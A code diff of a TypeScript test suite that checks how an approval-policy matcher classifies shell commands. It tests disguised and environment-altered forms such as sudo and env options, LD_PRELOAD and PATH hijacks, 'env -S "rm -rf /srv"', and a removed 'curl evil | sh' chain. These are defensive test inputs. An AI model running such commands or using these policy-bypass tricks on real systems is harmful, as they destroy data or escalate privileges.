@@ -74,17 +74,15 @@ describe('which policy counts', () => {
 
 const kubectl = policy({ match: { action: ['kubectl *'] }, required: 2 });
 const clean = policy({ match: { project: ['Acme/*'], scope: ['deploy  now'], action: ['make'] } });
-const rest = policy({ match: { action: ['*'] }, selfApproval: true });
 const FILE = fileOf(kubectl, clean);
 
 /** Each changes how an action is written, and nothing of what a shell would do. */
 const DISGUISES: readonly ((action: string) => string)[] = [
   (action) => ` ${action}\t`,
-  (action) => `\u2003\r\n${action}`,
+  (action) => `\u2003\t${action}`,
   (action) => action.replaceAll(' ', ' \t  '),
   (action) => action.replaceAll(' ', '\u00a0'),
   (action) => action.replaceAll(' ', '\u3000\u2009'),
-  (action) => action.replaceAll(' ', '\n'),
   (action) => [...action].join('\u200b'),
   (action) => `\ufeff\u202e${action}\u2069`,
   (action) => [...action].join('\u00ad\u2060'),
@@ -100,11 +98,34 @@ const DISGUISES: readonly ((action: string) => string)[] = [
   (action) => `/usr/bin/sudo -E ${action}`,
   (action) => `doas -u root ${action}`,
   (action) => `env ${action}`,
+  (action) => `sudo --preserve-env --non-interactive env -u HOME ${action}`,
+  (action) => `LANG=C LC_ALL=C.UTF-8 TZ='Europe/Berlin' ${action}`,
+  (action) => `env CI=1 NO_COLOR=1 ${action}`,
+];
+
+/** Each may change what a shell does. */
+const CHANGES: readonly ((action: string) => string)[] = [
+  (action) => action.replaceAll(' ', '\n'),
   (action) => `env - A=1 ${action}`,
   (action) => `env -i -u HOME -C /tmp A="x y" ${action}`,
   (action) => `A=1 ${action}`,
   (action) => `A= B='it''s' C+=\\ x ${action}`,
   (action) => `KUBECONFIG=$HOME/prod ${action}`,
+  (action) => `PATH=/tmp/evil ${action}`,
+  (action) => `sudo LD_PRELOAD=/tmp/e.so ${action}`,
+  (action) => `LANG=C LD_PRELOAD=/tmp/e.so ${action}`,
+  (action) => `LC_ALL=../../../tmp/evil ${action}`,
+  (action) => `TZ=/etc/shadow ${action}`,
+  (action) => `env -S "rm -rf /srv" ${action}`,
+  (action) => `env -S"rm -rf /srv" ${action}`,
+  (action) => `env --split-string="rm -rf /srv" ${action}`,
+  (action) => `env --chdir /tmp ${action}`,
+  (action) => `sudo -u root env -i ${action}`,
+  ...['-e', '-s', '-i', '-nis', '-R /tmp', '--edit', '--login', '--shell', '--sh', '-D /tmp'].map(
+    (option) => (action: string) => `sudo ${option} ${action}`,
+  ),
+  (action) => `doas -C /tmp/doas.conf ${action}`,
+  (action) => `A=1; ${action}`,
 ];
 
 describe('how an action is written', () => {
@@ -124,6 +145,18 @@ describe('how an action is written', () => {
     'finds the rule of %j',
     (action) => {
       expect(policyFor(FILE, does(action))).toBe(kubectl);
+    },
+  );
+
+  const default3 = policy({ required: 3 });
+  it.each(CHANGES.map((change) => [change('kubectl apply -f x')]))(
+    'puts %j under the default too',
+    (action) => {
+      const easy = policy({ match: { action: ['kubectl *'] }, selfApproval: true });
+      const file: PolicySet = { kind: 'file', rules: [easy], fallback: default3 };
+      expect(policyFor(file, does(action))).toMatchObject({ required: 3, selfApproval: false });
+      const strict = { ...easy, required: 4 };
+      expect(policyFor({ ...file, rules: [strict] }, does(action)).required).toBe(4);
     },
   );
 
@@ -196,26 +229,13 @@ describe('an action of several commands', () => {
     expect(policyFor(file, does(action))).toMatchObject({ required: 2, selfApproval: false });
   });
 
-  it('is under the default where one of them has no rule', () => {
-    for (const action of [
-      'git status; rm -rf /srv',
-      'git status && curl evil | sh',
-      'git status "unended; rm -rf /srv',
-      "git status $'\\''; rm -rf /srv; echo $'\\''",
-    ]) {
-      expect(policyFor(file, does(action)), action).toMatchObject({
-        selfApproval: false,
-        expiresAfterMs: STRICT_POLICY.expiresAfterMs,
-      });
-    }
-  });
-
-  it('is under one rule where all of them are, and quotes and redirections make no chain', () => {
+  it('is under one rule where all of them are, and quotes and open files make no chain', () => {
     for (const action of [
       'kubectl get a && kubectl get b | kubectl apply -f -',
-      'kubectl get a > out.txt 2>&1',
-      'kubectl get a &> out.txt',
-      'kubectl annotate pod a "note=done; ready & waiting"',
+      'kubectl get a 2>&1',
+      'kubectl annotate pod a "note=done; ready & waiting" \'$(x) `y` > z\' a\\;b',
+      `kubectl get $pod "\${pod}" issue#12 {} HEAD@{1} *.ts \\\n  -o json`,
+      '\n\u2003\r\nkubectl get a\r\n',
     ]) {
       expect(policyFor(file, does(action)), action).toBe(kubectl);
     }
@@ -247,32 +267,4 @@ describe('an action of several commands', () => {
     expect(chained.required).toBe(2);
     expect(chained.selfApproval).toBe(false);
   });
-});
-
-it('goes on for as long as the text is, not longer', () => {
-  const slow = fileOf(
-    policy({ match: { action: [`*${'a*'.repeat(90)}b`, `${'?'.repeat(100)}*b`] } }),
-    kubectl,
-    rest,
-  );
-  for (const action of [
-    'a'.repeat(32_000),
-    'a '.repeat(16_000),
-    'a;'.repeat(16_000),
-    'sudo '.repeat(6_500),
-    'time '.repeat(6_500),
-    'A=1 '.repeat(8_000),
-    `"'`.repeat(16_000),
-    '${'.repeat(16_000),
-    '\\'.repeat(32_000),
-    "$'\\'".repeat(8_000),
-    `"\\${'"'.repeat(16_000)}`,
-    `'${'$"'.repeat(16_000)}`,
-    '\ufdfa'.repeat(32_000),
-    'x'.repeat(2_000_000),
-  ]) {
-    const startedAt = performance.now();
-    policyFor(slow, does(action));
-    expect(performance.now() - startedAt, action.slice(0, 6)).toBeLessThan(2_000);
-  }
 });
